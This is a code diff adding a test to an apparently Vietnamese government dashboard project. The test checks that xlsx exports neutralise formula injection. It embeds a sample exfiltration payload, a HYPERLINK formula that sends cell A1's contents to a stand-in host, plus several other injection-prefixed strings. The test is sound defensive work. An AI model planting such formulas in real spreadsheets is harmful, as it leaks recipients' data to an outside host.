@@ -66,3 +66,18 @@ def test_upload_to_another_agencys_dataset_keeps_no_file_and_stale_previews_go(c
     os.utime(old, (two_days_ago, two_days_ago))
     assert remove_stale_previews(uploads) == 1
     assert not old.exists() and fresh.exists()
+
+
+def test_every_xlsx_export_writes_text_through_the_neutralising_cell_writer():
+    import io
+
+    from openpyxl import load_workbook
+
+    from dieuhanh.dashboard.exports import table_to_xlsx
+
+    attack = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
+    data = table_to_xlsx(attack, ["Cơ quan", "+cmd"], [[attack, 1.5], ["@SUM(A1)", None]], subtitle="-2+3")
+    sheet = load_workbook(io.BytesIO(data)).active
+    texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert texts and not any(t.startswith(("=", "+", "-", "@")) for t in texts)
+    assert sheet["B4"].value == 1.5  # numbers stay numbers
